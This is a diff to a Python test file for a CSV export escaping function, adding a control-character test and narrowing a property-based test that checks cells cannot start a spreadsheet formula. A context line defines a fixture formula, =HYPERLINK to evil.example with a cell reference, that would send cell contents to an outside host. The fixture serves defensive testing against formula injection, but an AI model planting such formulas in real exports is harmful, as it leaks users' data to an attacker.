@@ -18,11 +18,16 @@ from tests.helpers import csv_bytes, row, run_import
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
 
 
-@given(st.text())
+@given(st.text(alphabet=st.characters(exclude_categories=["Cc"]) | st.sampled_from("\t\r\n")))
 def test_no_csv_text_cell_starts_a_formula_and_the_rest_is_kept(value):
     cell = csv_text(value)
     assert not cell.startswith(FORMULA_STARTS)
     assert cell in (value, "'" + value)
+
+
+def test_control_characters_are_shown_not_written():
+    assert csv_text("Siti\x00Aminah\x1b") == "Siti\ufffdAminah\ufffd"
+    assert csv_text("baris satu\nbaris dua\tlagi") == "baris satu\nbaris dua\tlagi"
 
 
 def test_numbers_stay_numbers():
